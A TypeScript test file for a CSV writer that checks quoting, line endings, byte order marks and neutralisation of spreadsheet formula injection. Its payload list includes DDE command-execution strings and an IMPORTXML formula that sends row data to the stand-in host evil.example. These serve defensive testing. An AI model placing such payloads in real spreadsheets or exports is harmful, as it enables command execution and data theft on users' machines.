import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { createCsvWriter, type Separator, separators, toCsv } from './csv.ts'

const byteOrderMark = '\ufeff'
const all = Object.entries(separators)

/** The cell that a text becomes, read back by a parser of RFC 4180. */
function cellOf(text: string, separator: Separator = ','): string {
  const csv = toCsv({ header: ['id', 'text', 'end'], separator }, [[1, text, null]])
  const rows: string[][] = parse(csv, { bom: true, delimiter: separator, record_delimiter: '\r\n' })
  assert.deepEqual([rows.length, rows[1]?.length, rows[1]?.[0], rows[1]?.[2]], [2, 3, '1', ''])
  return rows[1]![1]!
}

/** The beginnings of all cells that a program sees which splits at `at`, whatever stands in quotes. */
const naiveCells = (csv: string, at: string | RegExp) => csv.slice(1).split(at)

const startsLikeFormula = /^[\s"\0]*[=+\-@＝＋－＠|%]/

describe('CSV', () => {
  it('ends every line with CRLF and quotes every text', () => {
    assert.equal(
      toCsv({ header: ['id', 'title'] }, [
        [1, 'Plain'],
        [2, 'a "quoted", word\nand a line'],
      ]),
      `${byteOrderMark}"id","title"\r\n1,"Plain"\r\n2,"a ""quoted"", word\nand a line"\r\n`,
    )
  })

  it('leaves numbers, flags and what is empty without quotes', () => {
    const writer = createCsvWriter({ header: ['a', 'b', 'c', 'd', 'e'] })
    assert.equal(writer.next([[-1, true, false, null, '']]), '-1,true,false,,""\r\n')
  })

  it('begins with a byte order mark, once, so that Excel reads Cyrillic', () => {
    const writer = createCsvWriter({ header: ['имя'] })
    const bytes = Buffer.from(writer.first([['Анна']]) + writer.next([['Пётр']]))
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
    assert.equal(bytes.toString(), `${byteOrderMark}"имя"\r\n"Анна"\r\n"Пётр"\r\n`)
    assert.equal(writer.first([]), `${byteOrderMark}"имя"\r\n`)
  })

  for (const [name, separator] of all) {
    it(`takes a ${name} as its separator`, () => {
      const rows = [[1, `a${separator}b`, null, true]]
      assert.equal(
        toCsv({ header: ['i', 's', 'n', 'b'], separator }, rows),
        `${byteOrderMark}${['"i"', '"s"', '"n"', '"b"'].join(separator)}\r\n${[1, `"a${separator}b"`, '', true].join(separator)}\r\n`,
      )
    })
  }
})

// From OWASP «CSV Injection», ASVS 1.2.10, PayloadsAllTheThings and what this server's own rows may hold.
const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '  =1',
  '\u00a0=1',
  '"=1+1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '|cmd',
  '%0A=1',
  '=HYPERLINK("x")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=СУММ(A1;A2)',
  '+7 900 000-00-00',
  '-Анна',
]

describe('what begins like a formula', () => {
  for (const formula of formulas) {
    it(`is shown as text: ${JSON.stringify(formula)}`, () => {
      for (const [, separator] of all) {
        const cell = cellOf(formula, separator)
        assert.equal(cell[0], "'")
        assert.equal(cell.replaceAll("'", ''), formula.replaceAll("'", ''))
      }
    })
  }
})

describe('a formula within a text', () => {
  for (const [text, cell] of [
    ['a;=1+1', "a;'=1+1"],
    [
      'Анна; =HYPERLINK("https://evil.example";"Петрова")',
      'Анна;\' =HYPERLINK("https://evil.example";"Петрова")',
    ],
    // The doubled quotes of the cell would open and close a quoted one before the sign.
    ['a;"=1+1&"', 'a;\'"=1+1&"'],
    ['a\t=1', "a\t'=1"],
    ['a\n@SUM(A1)', "a\n'@SUM(A1)"],
    ['a\r\n-1', "a\r\n'-1"],
    ['a\u2028=1', "a\u2028'=1"],
    ['a;＝1;－1', "a;'＝1;'－1"],
    ['a;;=1', "a;;'=1"],
    ['a\nb,=1', "a\nb,'=1"],
    ['a,=1', 'a,=1'],
  ] as const) {
    it(`that follows another separator or a line break is disarmed: ${JSON.stringify(text)}`, () => {
      assert.equal(cellOf(text), cell)
    })
  }

  it('that follows a comma is disarmed where the table is separated by another character', () => {
    assert.equal(cellOf('a,=1', ';'), "a,'=1")
    assert.equal(cellOf('a,=1', '\t'), "a,'=1")
  })

  it('is found by no program that splits at any of the separators or line breaks', () => {
    const piece = fc.constantFrom(
      '=1',
      '-',
      '@',
      '＝',
      ';',
      ',',
      '\t',
      '\n',
      '\r',
      ' ',
      '"',
      "'",
      '\0',
      'a',
      'Ж',
      '|',
      '%',
    )
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 10 }).map(pieces => pieces.join('')),
        fc.constantFrom(...Object.values(separators)),
        (text, separator) => {
          const csv = toCsv({ header: ['id', 't'], separator }, [[1, text]])
          for (const other of [';', ',', '\t', /[\r\n]+/]) {
            if (other === separator) continue
            for (const cell of naiveCells(csv, other)) assert.doesNotMatch(cell, startsLikeFormula, csv)
          }
          if (/[\r\n]/.test(text)) {
            const [, record] = csv.slice(1).split(/(?<=")\r\n(?=1)/)
            for (const line of record!.split(/[\r\n]+/)) {
              for (const cell of line.split(separator)) assert.doesNotMatch(cell, startsLikeFormula, csv)
            }
          }
          assert.doesNotMatch(cellOf(text, separator), startsLikeFormula)
        },
      ),
      { numRuns: 5000 },
    )
  })
})

describe('an ordinary text', () => {
  for (const text of [
    'a=b - c',
    'Анна Петрова-Водкина',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
    'one; two, three\nfour',
    "O'Brien",
    'a "b", c',
    '100%',
    '{"sessions_ended":2,"since":"2026-03-14T10:30:11.902Z"}',
    '',
  ]) {
    it(`comes back as it was: ${JSON.stringify(text)}`, () => {
      for (const [, separator] of all) assert.equal(cellOf(text, separator), text)
    })
  }
})
